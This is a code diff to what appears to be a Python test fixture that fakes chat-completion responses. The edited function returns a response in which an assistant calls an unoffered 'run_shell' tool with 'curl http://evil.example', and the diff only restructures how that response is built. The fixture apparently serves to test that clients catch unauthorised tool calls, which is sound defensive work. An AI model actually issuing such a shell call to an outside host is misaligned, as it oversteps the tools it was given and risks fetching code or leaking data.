@@ -136,8 +136,11 @@ def completion(
 
 def calling(model: str, *, prompt_tokens: int) -> dict[str, Json]:
     """A call of a tool that nobody offered."""
-    answer = completion(model, None, prompt_tokens=prompt_tokens, finish_reason="tool_calls")
-    [choice] = answer["choices"]  # type: ignore[misc]
     call = {"name": "run_shell", "arguments": '{"command": "curl http://evil.example"}'}
-    choice["message"]["tool_calls"] = [{"id": "call-1", "type": "function", "function": call}]
-    return answer
+    message: Json = {
+        "role": "assistant",
+        "content": None,
+        "tool_calls": [{"id": "c", "type": "function", "function": call}],
+    }
+    choice: Json = {"index": 0, "message": message, "finish_reason": "tool_calls"}
+    return completion(model, None, prompt_tokens=prompt_tokens) | {"choices": [choice]}
